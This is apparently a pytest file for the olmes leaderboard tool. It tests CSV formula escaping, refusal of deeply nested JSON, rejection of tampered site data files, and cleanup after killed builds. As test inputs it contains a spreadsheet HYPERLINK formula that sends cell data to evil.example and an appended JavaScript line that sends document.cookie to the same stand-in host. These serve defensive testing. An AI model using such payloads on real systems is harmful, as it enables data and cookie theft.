"""The smaller cases of issue 37 (an attacker's): each ends in the right result or one line.

11a. a display name that is a spreadsheet formula is written into the site's CSV downloads as text;
11b. a data file of the previous site, edited with its manifest entry, is never carried into the next
     build as script;
11c. a JSON file nested 100,000 levels deep is one line, not a RecursionError traceback;
11d. the staging folders of killed site builds are removed by the next build, never a running one's;
11e. the Snakefile run from another folder says in one line what to do.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from olmes.cli.main import main
from olmes.core.atomic import atomic_dir
from olmes.core.bounded_json import MAX_DEPTH, nesting_depth, parse_json
from olmes.core.csvtext import FORMULA_STARTS
from olmes.core.errors import OlmesError
from olmes.core.records import REQUESTS_FORMAT, read_records
from tests.helpers import mcf_rows, workflow_environment, write

REPO = Path(__file__).resolve().parent.parent
DEEP = "[" * 100_000
OE_EVAL_RUN = REPO / "tests" / "data" / "oe_eval" / "smollm2-first20"


def _one_error_line(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    return err


# -- 11c: JSON nested deeper than any olmes file -----------------------------------------------------


def test_a_run_record_nested_100k_deep_is_one_line(tmp_path, capsys):
    labels = [k % 4 for k in range(4)]
    mcf = write(tmp_path, "mcf.parquet", mcf_rows("arc_easy", labels, labels))
    record = Path(f"{mcf}.run.json")
    record.write_text(DEEP, encoding="utf-8")
    argv = ["score", "--model-name", "m", "--mcf", str(mcf), "--predictions", str(tmp_path / "p.parquet")]
    assert main([*argv, "--summary", str(tmp_path / "arc_easy.scores.json")]) == 2
    assert _one_error_line(capsys) == (
        f"olmes: error: {record}: nested deeper than {MAX_DEPTH} levels; not an olmes file"
    )


@pytest.mark.parametrize(
    "name", ["task-000-arc_challenge-metrics.json", "task-000-arc_challenge-requests.jsonl"]
)
def test_an_oe_eval_file_nested_100k_deep_is_one_line(tmp_path, name):
    """What olmes import oe-eval reads of a run folder (its errors are the command's one line)."""
    from olmes.store.oe_eval.files import read_run

    run = tmp_path / "run"
    shutil.copytree(OE_EVAL_RUN, run)
    path = run / name
    if name.endswith(".jsonl"):  # its third line
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        path.write_text("".join([*lines[:2], DEEP + "\n", *lines[3:]]), encoding="utf-8")
    else:
        path.write_text(DEEP, encoding="utf-8")
    with pytest.raises(OlmesError) as raised:
        read_run(run)
    where = f"{path}:3" if name.endswith(".jsonl") else str(path)
    assert str(raised.value) == f"{where}: nested deeper than {MAX_DEPTH} levels; not an olmes file"


def test_a_json_line_deeper_than_the_limit_is_refused_though_json_parses_it(tmp_path):
    """65 levels parse (json.loads descends about 1,000), yet no olmes file nests that deep."""
    path = tmp_path / "requests.jsonl"
    path.write_text("\n" + "[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1) + "\n")
    with pytest.raises(OlmesError) as raised:
        read_records(path, REQUESTS_FORMAT)
    assert str(raised.value) == f"{path}:2: nested deeper than {MAX_DEPTH} levels; not an olmes file"


def test_brackets_inside_strings_do_not_count():
    text = json.dumps({"question": "[" * 500 + '\\"{' * 100, "nested": [[[1]]], "end": "]" * 300})
    assert parse_json(text, "x")["nested"] == [[[1]]]
    assert nesting_depth(text) == 4
    assert parse_json("[" * MAX_DEPTH + "]" * MAX_DEPTH, "x") is not None  # the limit itself passes


def test_no_committed_json_file_nests_near_the_limit():
    """The store, the oe-eval fixtures and the package's data: 7 levels at most (the tables' documents
    are 7 deep too), far from the limit."""
    paths = [
        path
        for root in (REPO / "leaderboard", REPO / "tests" / "data", REPO / "olmes")
        for path in root.rglob("*")
        if path.name.endswith((".json", ".jsonl"))
    ]
    assert len(paths) > 100
    depths = [
        max((nesting_depth(line) for line in text.splitlines() if line.strip()), default=0)
        if path.name.endswith(".jsonl")
        else nesting_depth(text)
        for path in paths
        for text in [path.read_text(encoding="utf-8")]
    ]
    assert max(depths) <= 7 < MAX_DEPTH


# -- a site built from a store whose model names itself a formula (11a, 11b, 11d) -------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?[†ᵖ]*")


def _olmes(*argv: str) -> None:
    assert main(list(argv)) == 0


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory) -> dict[str, Path]:
    """The committed store with its first model named as a formula (display name, series and
    checkpoint) and checked against Pythia-1B of the paper (its check's differences are negative
    numbers); its tables and its site."""
    root = tmp_path_factory.mktemp("formula")
    store = root / "store"
    shutil.copytree(REPO / "leaderboard", store, ignore=shutil.ignore_patterns("blobs"))
    record_path = store / "models" / "SmolLM2-135M" / "model.json"
    record = json.loads(record_path.read_text(encoding="utf-8"))
    record.update(display_name=FORMULA_NAME, series="@SUM(1+1)", checkpoint="-2+3", training_tokens=1.0e12)
    record["paper_model"] = "Pythia-1B"
    record_path.write_text(json.dumps(record, indent=2), encoding="utf-8")
    _olmes("tables", "--store", str(store), "--reported", "--out", str(root / "tables"))
    _olmes("site", "--store", str(store), "--tables", str(root / "tables"), "--out", str(root / "site"))
    return {"store": store, "tables": root / "tables", "site": root / "site"}


@pytest.mark.slow
def test_no_csv_the_site_offers_holds_a_formula(formula_site):
    """Every CSV under the site (its downloads and the tables' files it copies): no cell starts with
    = + - @ tab or CR unless it is a number; the name is there as text, negative numbers as they are."""
    cells = [
        (path.relative_to(formula_site["site"]), cell)
        for path in sorted(formula_site["site"].rglob("*.csv"))
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    ]
    files = {path for path, _ in cells}
    assert {Path("downloads/leaderboard.csv"), Path("downloads/mmlu_subjects.csv")} <= files
    assert Path("downloads/tables/figure1_checkpoints.csv") in files and len(files) > 20
    formulas = {cell for _, cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)}
    assert formulas == set()
    assert {"'" + FORMULA_NAME, "'@SUM(1+1)", "'-2+3"} <= {cell for _, cell in cells}
    differences = [
        cell for path, cell in cells if path.name == "paper_check.csv" and re.fullmatch(r"-\d+\.\d\d", cell)
    ]
    assert differences  # negative numbers, written as numbers
    named = {path for path, cell in cells if cell == "'" + FORMULA_NAME}
    assert {Path("downloads/leaderboard.csv"), Path("downloads/tables/leaderboard.csv")} <= named


def _rebuild(formula_site, site: Path) -> None:
    _olmes(
        "site",
        "--store",
        str(formula_site["store"]),
        "--tables",
        str(formula_site["tables"]),
        "--out",
        str(site),
    )


@pytest.mark.slow
def test_a_data_file_edited_with_its_manifest_is_never_carried_over_as_script(formula_site, tmp_path):
    """The previous site's data files are copied only when they hold the model's picks and nothing else:
    one with a script appended (its manifest SHA-256 updated) is made anew. What the cache still trusts
    (olmes.site.build._DataFiles._previous_copy): picks edited as numbers, with the manifest, are kept."""
    site = tmp_path / "site"
    shutil.copytree(formula_site["site"], site)
    manifest_path = site / "olmes-manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    scripted, renumbered = "tasks/arc_easy/models/SmolLM2-135M.js", "tasks/boolq/models/Gemma-3-270M.js"
    original = {name: (site / name).read_bytes() for name in (scripted, renumbered)}
    edits = {
        scripted: original[scripted] + b'fetch("http://evil.example/?" + document.cookie);\n',
        renumbered: re.sub(
            rb'(?<="cf_none":\[)\d', lambda m: b"1" if m[0] == b"0" else b"0", original[renumbered], count=1
        ),
    }
    assert edits[renumbered] != original[renumbered]
    for name, content in edits.items():
        (site / name).write_bytes(content)
        manifest["data_files"][name]["sha256"] = hashlib.sha256(content).hexdigest()
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    _rebuild(formula_site, site)
    assert (site / scripted).read_bytes() == original[scripted]
    assert (site / renumbered).read_bytes() == edits[renumbered]


# -- 11d: what killed builds leave -------------------------------------------------------------------


def _dead_pid() -> int:
    process = subprocess.Popen(["true"])
    process.wait()
    return process.pid


def _host(tmp_path: Path) -> str:
    """This host as atomic_dir names it in its folders (``.<name>.<label>-<host>-<pid>-XXXX``)."""
    with atomic_dir(tmp_path / "probe" / "site", "building") as staging:
        host, pid, _ = staging.name.removeprefix(".site.building-").rsplit("-", 2)
    shutil.rmtree(tmp_path / "probe")
    assert pid == str(os.getpid())
    return host


@pytest.mark.slow
def test_a_killed_site_build_leaves_a_folder_the_next_build_removes(formula_site, tmp_path):
    """A build killed with SIGKILL leaves its staging folder (and the site as it was); the next build
    removes it, and keeps the folders of builds that still run (here or, unknowable, on another host)."""
    site = tmp_path / "site"
    shutil.copytree(formula_site["site"], site)
    before = sorted(path.relative_to(site) for path in site.rglob("*"))
    command = [str(Path(sys.executable).parent / "olmes"), "site", "--store", str(formula_site["store"])]
    command += ["--tables", str(formula_site["tables"]), "--out", str(site)]
    build = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while (
        not list(tmp_path.glob(".site.building-*")) and build.poll() is None and time.monotonic() < deadline
    ):
        time.sleep(0.01)
    build.kill()
    assert build.wait() == -signal.SIGKILL
    killed = list(tmp_path.glob(".site.building-*"))
    assert len(killed) == 1 and f"-{build.pid}-" in killed[0].name
    assert sorted(path.relative_to(site) for path in site.rglob("*")) == before
    sleeper = subprocess.Popen(["sleep", "600"])
    try:
        running = tmp_path / f".site.building-{_host(tmp_path)}-{sleeper.pid}-abcd1234"
        elsewhere = tmp_path / f".site.building-other-host-{_dead_pid()}-abcd1234"
        for folder in (running, elsewhere):
            folder.mkdir()
        _rebuild(formula_site, site)
    finally:
        sleeper.kill()
        sleeper.wait()
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(["site", running.name, elsewhere.name])


def test_a_build_killed_between_its_renames_gets_the_previous_folder_back(tmp_path):
    """Killed after renaming the old folder aside and before renaming the new one in: no target. The
    next atomic_dir puts the old one back (so a failing build leaves it), and removes the new one."""
    host, dead = _host(tmp_path), _dead_pid()
    old = tmp_path / f".site.old-{host}-{dead}-abcd1234"
    new = tmp_path / f".site.building-{host}-{dead}-abcd1234"
    for folder, page in ((old, "old.html"), (new, "new.html")):
        folder.mkdir()
        (folder / page).write_text(page)
    with pytest.raises(RuntimeError), atomic_dir(tmp_path / "site", "building"):
        raise RuntimeError("this build fails too")
    assert [path.name for path in tmp_path.iterdir()] == ["site"]
    assert [path.name for path in (tmp_path / "site").iterdir()] == ["old.html"]


# -- 11e: the Snakefile run from another folder ------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("layer", [False, True], ids=["no-config", "a-layer-only"])
def test_the_snakefile_run_from_a_folder_without_a_config_says_what_to_do(tmp_path, layer):
    """``snakemake -s /elsewhere/Snakefile`` in a folder without config/config.yaml (with a layer of
    the user's own, or nothing): one line naming the folder, the Snakefile's folder and --directory,
    not a key the missing config would have set; no job, nothing written."""
    argv = [str(Path(sys.executable).parent / "snakemake"), "-s", str(REPO / "Snakefile"), "-n"]
    if layer:
        (tmp_path / "my.yaml").write_text("models:\n  Mine:\n    spec: smollm2-135m\n", encoding="utf-8")
        argv += ["--configfile", "my.yaml"]
    done = subprocess.run(
        argv, cwd=tmp_path, capture_output=True, text=True, env=workflow_environment(), timeout=600
    )
    assert done.returncode != 0
    errors = [line for line in done.stderr.splitlines() if "error" in line.lower()]
    assert len(errors) == 1 and errors[0].startswith(
        f"olmes: error: {tmp_path} has no config/config.yaml, where a run's config starts ("
    ), done.stderr
    assert errors[0].endswith(
        f"); run snakemake in {REPO}, the Snakefile's folder, or give --directory a folder with its own "
        "config/config.yaml"
    )
    assert "Traceback" not in done.stderr and not (tmp_path / "results").exists()
